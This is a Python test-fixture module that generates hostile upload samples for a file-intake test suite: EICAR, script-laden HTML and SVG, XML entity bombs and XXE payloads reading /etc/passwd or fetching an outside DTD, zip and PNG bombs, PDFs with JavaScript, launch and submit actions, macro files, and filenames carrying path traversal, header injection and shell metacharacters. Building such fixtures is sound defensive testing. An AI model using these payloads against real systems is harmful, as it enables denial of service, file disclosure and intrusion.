"""Files that somebody could send to do harm, made here: none of them is stored in the repository.

Each is refused at every door that keeps files, or taken apart as data where a door reads tables.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pikepdf
from openpyxl import Workbook
from pikepdf import Array, Dictionary, Name
from PIL import Image

from tests.documents.pdf_factory import saved, simple_pdf

# The antivirus makers' common test file, put together here so that no scanner finds it in the source.
EICAR = ("X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-" + "ANTIVIRUS-TEST-FILE!$H+H*").encode()
SCRIPT = b"<html><script>alert(document.domain)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
BOMB = (
    b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a0 "ha">'
    + b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 12))
    + b"]><a>&a11;</a>"
)
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
PARAMETER = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd"> %p;]><a/>'
INCLUDED = (
    b'<?xml version="1.0"?><a xmlns:xi="http://www.w3.org/2001/XInclude">'
    b'<xi:include href="file:///etc/passwd" parse="text"/></a>'
)


def picture(kind: str, size: tuple[int, int] = (20, 20)) -> bytes:
    target = io.BytesIO()
    Image.new("RGB", size, "white").save(target, kind)
    return target.getvalue()


def zipped(parts: dict[str, bytes]) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return target.getvalue()


def zip_bomb(depth: int = 4) -> bytes:
    content = zipped({"0.bin": bytes(20_000_000)})
    for _layer in range(depth):
        content = zipped({f"{n}.zip": content for n in range(5)})
    return content


def png_bomb() -> bytes:
    """50 000 × 50 000 pixels in a few kilobytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", 50_000, 50_000, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(bytes(6251 * 200), 9))
        + chunk(b"IEND", b"")
    )


def with_attachment(name: str, content: bytes) -> bytes:
    pdf = pikepdf.open(io.BytesIO(simple_pdf()))
    pdf.attachments[name] = pikepdf.AttachedFileSpec(pdf, content, filename=name)
    return saved(pdf)


def workbook(*cells: str) -> bytes:
    target, book = io.BytesIO(), Workbook()
    for cell in cells:
        book.active.append([cell])
    book.save(target)
    return target.getvalue()


def with_part(book: bytes, name: str, content: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        parts = {one: archive.read(one) for one in archive.namelist()}
    return zipped(parts | {name: content})


def script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS="app.alert(1)")


def all_of_them() -> dict[str, tuple[str, bytes]]:
    """What each is, the name under which it comes, and its bytes."""
    plain = simple_pdf()
    return {
        "test virus as a PDF": ("facture.pdf", EICAR),
        "test virus as a picture": ("photo.png", EICAR),
        "test virus by its own name": ("eicar.com", EICAR),
        "test virus inside a PDF": ("facture.pdf", with_attachment("eicar.com", EICAR)),
        "zip before a PDF": ("piece.pdf", zipped({"a.txt": b"x"}) + plain),
        "zip that bursts, as a PDF": ("piece.pdf", zip_bomb(2)),
        "page as a PDF": ("piece.pdf", SCRIPT),
        "page before a PDF": ("piece.pdf", SCRIPT + plain),
        "page as a picture": ("logo.png", SCRIPT),
        "picture that is a script": ("logo.png", b"GIF89a/*" + b"x" * 40 + b"*/=1;alert(1)"),
        "PDF that runs a script when opened": ("piece.pdf", simple_pdf(OpenAction=script())),
        "PDF that runs a script at a page": ("piece.pdf", simple_pdf(AA=Dictionary(WC=script()))),
        "PDF that starts a program": ("piece.pdf", simple_pdf(OpenAction=Dictionary(S=Name.Launch, F="calc.exe"))),
        "PDF that sends itself": (
            "piece.pdf", simple_pdf(OpenAction=Dictionary(S=Name.SubmitForm, F="https://x.example/")),
        ),
        "PDF with a program": ("piece.pdf", with_attachment("calc.exe", b"MZ\x90\x00")),
        "PDF with a document with macros": ("piece.pdf", with_attachment("a.docm", zipped({"vbaProject.bin": b"x"}))),
        "PDF that is a program's form": (
            "piece.pdf", simple_pdf(AcroForm=Dictionary(Fields=Array(), XFA="<xdp/>")),
        ),
        "letter with macros": ("lettre.docm", zipped({"word/vbaProject.bin": b"x"})),
        "letter with macros as a PDF": ("lettre.pdf", zipped({"word/vbaProject.bin": b"x"})),
        "workbook with macros": ("classeur.xlsm", with_part(workbook("a"), "xl/vbaProject.bin", b"x")),
        "drawing with a script": ("logo.svg", SVG),
        "drawing with a script as a picture": ("logo.png", SVG),
        "drawing packed": ("logo.svgz", zlib.compress(SVG)),
        "picture of two and a half thousand million pixels": ("photo.png", png_bomb()),
        "TIFF": ("photo.tiff", picture("TIFF")),
        "TIFF as a picture": ("photo.jpg", picture("TIFF")),
        "XML that swells": ("facture.xml", BOMB),
        "XML that reads the disk": ("facture.xml", OUTSIDE),
        "XML that asks another machine": ("facture.xml", PARAMETER),
        "XML that swells inside a PDF": ("facture.pdf", with_attachment("factur-x.xml", BOMB)),
        "program": ("setup.exe", b"MZ\x90\x00"),
        "page": ("page.html", SCRIPT),
        "two endings": ("facture.pdf.html", plain),
        "name with a nul": ("piece.html\0.pdf", SCRIPT),
    }  # fmt: skip


# What a person's system could be fooled by; the file itself is a good PDF, and none of it comes back.
NAMES = [
    "../../../etc/passwd.pdf",
    "..\\..\\windows\\system32\\a.pdf",
    "/etc/cron.d/a.pdf",
    "C:\\a.pdf",
    "a\0.pdf",
    "facture\u202efdp.exe.pdf",
    "x" * 300 + ".pdf",
    "CON.pdf",
    "con.txt.pdf",
    "a\r\nSet-Cookie: x=1.pdf",
    'a"; filename="b.html.pdf',
    "é\u0301\u200b🙂.pdf",
    "<script>alert(1)</script>.pdf",
    "{{7*7}}{% debug %}.pdf",
    ".pdf.pdf",
    "a;b|c`d`$(e).pdf",
]
